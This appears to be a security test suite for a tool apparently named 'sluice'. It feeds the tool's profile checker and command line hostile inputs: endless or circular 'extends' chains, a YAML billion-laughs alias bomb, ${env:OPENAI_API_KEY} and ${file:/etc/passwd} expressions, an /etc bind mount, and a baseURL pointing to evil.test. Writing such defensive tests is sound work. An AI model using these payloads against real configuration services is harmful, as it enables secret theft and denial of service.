import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Attack, each } from "../attack.ts";
import { classicKey, type Ground, strangersFolder } from "../ground.ts";

const expressions = (ground: Ground): readonly string[] => [
  ..."${env:PLANTED} ${env:OPENAI_API_KEY} a${env:PLANTED}b ${env:NOT_THERE:-${env:PLANTED}} ${file:/etc/passwd}".split(
    " ",
  ),
  `\${file:${join(ground.outside, "secret.txt")}}`,
  "__SECRET_0__",
];

const places = (value: string): readonly string[] => {
  const text = JSON.stringify(value);
  return [
    `version: 1\nname: ${text}`,
    `version: ${text}`,
    `version: 1\nextends: ${text}`,
    `version: 1\nplugins: { x: { use: ${text} } }`,
    `version: 1\nplugins: { x: { use: llm-scripted, with: { script: [${text}], delay: ${text} } } }`,
    `version: 1\nplugins: { x: { use: websocket, with: { listen: ${text}, token: ${text} } } }`,
    `version: 1\nplugins: { x: { use: docker-sandbox, with: { image: ${text}, binds: [${text}], env: { A: ${text} } } } }`,
    `version: 1\nname: &x ${text}\ndescription: *x\nflows: { chat: *x }`,
  ];
};

/** Who could have let it in: an applied profile is what the host runs from then on. */
const applied = (body: string) => (body.includes('"status":"applied"') ? body : undefined);

async function applying(ground: Ground, change: (text: string) => string): Promise<string | undefined> {
  const { body } = await ground.asPage("configure", "GET", "profile");
  const { text, revision } = JSON.parse(body) as { text: string; revision: string };
  return applied((await ground.asPage("configure", "POST", "profile/apply", { text: change(text), revision })).body);
}

/** By name: how a folder is filled whose few files would take for ever to be read. */
const chains: Readonly<Record<string, (write: (name: string, text: string) => void) => void>> = {
  "in a row": (write) => {
    for (let at = 0; at < 2_000; at += 1) write(`f${at}.yaml`, `extends: ./f${at + 1}.yaml\n`);
  },
  "in a circle": (write) => {
    for (let at = 0; at < 2_000; at += 1) write(`f${at}.yaml`, `extends: ./f${(at + 1) % 2_000}.yaml\n`);
  },
  "each twice": (write) => {
    for (let at = 0; at < 30; at += 1) write(`f${at}.yaml`, `extends: [./f${at + 1}.yaml, ./f${at + 1}.yaml]\n`);
    write("f30.yaml", "version: 1\n");
  },
  "side by side": (write) => {
    write("f0.yaml", `extends: [${Array.from({ length: 2_000 }, (_, at) => `./f${at + 1}.yaml`)}]\n`);
  },
  "with aliases that laugh": (write) => write("f0.yaml", laughs),
};
const laughs = Array.from(
  { length: 30 },
  (_, at) => `x${at}: &a${at} [${Array(10).fill(at === 0 ? "l" : `*a${at - 1}`)}]\n`,
).join("");
/** Milliseconds that reading any of them may take, on a machine that is busy. */
const patience = 60_000;

function chained(ground: Ground, name: string): string {
  const folder = join(ground.place.folder, "chained", name.replaceAll(" ", "-"));
  mkdirSync(folder, { recursive: true });
  chains[name]?.((file, text) => writeFileSync(join(folder, file), text));
  writeFileSync(join(folder, "sluice.yaml"), "version: 1\nextends: ./f0.yaml\nflows: {}\n");
  return folder;
}

async function inTime(ground: Ground, args: readonly string[], expected: number): Promise<string | undefined> {
  const began = performance.now();
  const { code, stderr } = await ground.place.run(args, { env: { SLUICE_TRUST: "" } });
  const took = performance.now() - began;
  if (took > patience) return `it took ${Math.round(took)} ms`;
  return code === expected ? undefined : `it ended with ${code}: ${stderr.slice(-200)}`;
}

export const untrustedText: readonly Attack[] = [
  {
    ...{
      finding: 1,
      as: "a stranger's folder",
      over: "command line",
      what: "files that name each other without an end",
    },
    play: (ground) =>
      each(Object.keys(chains), (name) =>
        inTime(ground, ["check", "-p", join(chained(ground, name), "sluice.yaml")], 78),
      ),
  },
  {
    ...{
      finding: 1,
      as: "a file that the profile extends",
      over: "reload",
      what: "files that name each other without an end",
    },
    play: async (ground) => {
      const file = join(ground.place.folder, "sluice.yaml");
      const text = readFileSync(file, "utf8");
      try {
        return await each(Object.keys(chains), async (name) => {
          const base = join(chained(ground, name), "sluice.yaml");
          writeFileSync(
            file,
            text.replace(/^extends: (.*)$/m, (_, first) => `extends: [${first}, ${base}]`),
          );
          return (await inTime(ground, ["plan"], 78)) ?? (await inTime(ground, ["reload"], 78));
        });
      } finally {
        writeFileSync(file, text);
      }
    },
  },
  ...(["read", "configure"] as const).map(
    (role): Attack => ({
      ...{ finding: 1, as: role, over: "page", what: "a text to check whose aliases laugh, or that extends itself" },
      play: (ground) =>
        each([laughs, "extends: ./sluice.yaml", "extends: [., .]", `x: ${"[".repeat(5_000)}`], async (text) => {
          const began = performance.now();
          const { body } = await ground.asPage(role, "POST", "profile/check", { text: `version: 1\n${text}\n` });
          if (performance.now() - began > 5_000) return "everybody waited for it";
          return body.includes("SLUICE_CONFIG_") ? undefined : `was taken: ${body.slice(0, 200)}`;
        }),
    }),
  ),
  ...(["read", "configure"] as const).map(
    (role): Attack => ({
      ...{ finding: 1, as: role, over: "page", what: "a text to check that asks for keys, files and variables" },
      play: (ground) =>
        each(expressions(ground).flatMap(places), async (text) => {
          await ground.asPage(role, "POST", "profile/check", { text });
          await ground.asPage(role, "POST", "profile/edit", { text, pointer: "/name", value: "x" });
          return undefined;
        }),
    }),
  ),
  ...(["read", "configure"] as const).map(
    (role): Attack => ({
      ...{ finding: 1, as: role, over: "page", what: "a text to check that names code and folders of the machine" },
      play: (ground) => {
        const { folder, mark } = strangersFolder(ground.place);
        const named = (text: string) => `version: 1\n${text}\nflows: { chat: x }\n`;
        const texts = [
          named(`plugins: { x: { use: ${folder}/own } }`),
          named("plugins: { x: { use: ./strange/own } }"),
          named(`extends: ${folder}/sluice.yaml`),
        ];
        return each(texts, async (text) => {
          const { body } = await ground.asPage(role, "POST", "profile/check", { text });
          if (existsSync(mark)) return "its code ran";
          return body.includes("SLUICE_CONFIG_UNTRUSTED") ? undefined : `was read: ${body.slice(0, 200)}`;
        });
      },
    }),
  ),
  {
    ...{ finding: 1, as: "configure", over: "page", what: "a text to apply that reaches beyond the sandbox" },
    play: (ground) => {
      const changes: readonly ((text: string) => string)[] = [
        (text) => `${text}\nname: "\${file:/etc/passwd}"\n`,
        (text) => text.replace("version: 1", `version: 1\nname: "\${env:PLANTED}"`),
        (text) => text.replace("plugins:", `plugins:\n  mine: { use: ${join(ground.outside, "plugin")} }`),
        (text) => text.replace("plugins:", "plugins:\n  other: { use: docker-sandbox, with: { binds: [/etc:/x] } }"),
        (text) => text.replace("plugins:", "plugins:\n  other: { use: docker-sandbox, with: { network: open } }"),
        (text) => text.replace("plugins:", "plugins:\n  gpt: { with: { baseURL: http://evil.test/v1 } }"),
      ];
      return each(changes, async (change) => applying(ground, change));
    },
  },
  {
    ...{ finding: 1, as: "run", over: "lmc", what: "settings that hold expressions" },
    play: (ground) =>
      each(expressions(ground), async (text) => {
        const body = JSON.stringify({ system_message: text, llm: { api_key: text, api_base: text, model: text } });
        await ground.http({ path: "/settings", headers: classicKey, body });
        await ground.http({ method: "GET", path: "/settings/system_message", headers: classicKey });
        return undefined;
      }),
  },
  {
    ...{ finding: 1, as: "a stranger's folder", over: "command line", what: "code that runs when it is looked at" },
    play: async (ground) => {
      const { folder, mark } = strangersFolder(ground.place);
      const profile = join(folder, "sluice.yaml");
      const env = { SLUICE_TRUST: "" };
      return each(["check", "graph", "explain", "run", "ask", "up", "plugins list"], async (command) => {
        const rest =
          command === "run" ? ["-e", "1"] : command === "ask" ? ["hi"] : command === "explain" ? ["chat"] : [];
        const flags = command === "plugins list" ? [] : ["-p", profile];
        await ground.place.run([...command.split(" "), ...rest, ...flags], { env });
        return existsSync(mark) ? "its code ran" : undefined;
      });
    },
  },
];
